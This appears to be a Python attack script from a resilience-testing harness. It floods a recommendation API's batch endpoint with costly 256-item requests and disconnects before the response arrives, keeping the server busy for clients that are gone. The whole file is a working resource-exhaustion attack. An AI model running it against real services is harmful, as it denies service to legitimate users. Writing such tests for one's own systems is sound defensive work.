"""Send expensive batches and disconnect before the response, with scope ``read``.

A service that computes responses for clients that are gone can be kept busy for the price of sending requests.
"""

import asyncio
import json

import httpx
from attacker import Attacker, run


async def attack(attacker: Attacker) -> None:
    requests = [{"history": [], "k": 200, "diversify": 0.7} for _ in range(256)]
    content = json.dumps({"requests": requests}).encode()
    headers = {"Content-Type": "application/json"}

    async def client(number: int) -> None:
        while attacker.is_running():
            attacker.counts["requests"] += 1
            attacker.counts["sent_bytes"] += len(content)
            async with attacker.client(timeout=0.2) as http:
                try:
                    response = await http.post("/v1/recommend/batch", content=content, headers=headers)
                    attacker.statuses[str(response.status_code)] += 1
                except httpx.ConnectError:
                    attacker.counts["refused"] += 1
                except httpx.TimeoutException:
                    attacker.counts["disconnects"] += 1
                except httpx.HTTPError:
                    attacker.counts["resets"] += 1
            await asyncio.sleep(0.1)

    await attacker.gather(4, client)


if __name__ == "__main__":
    run(attack)
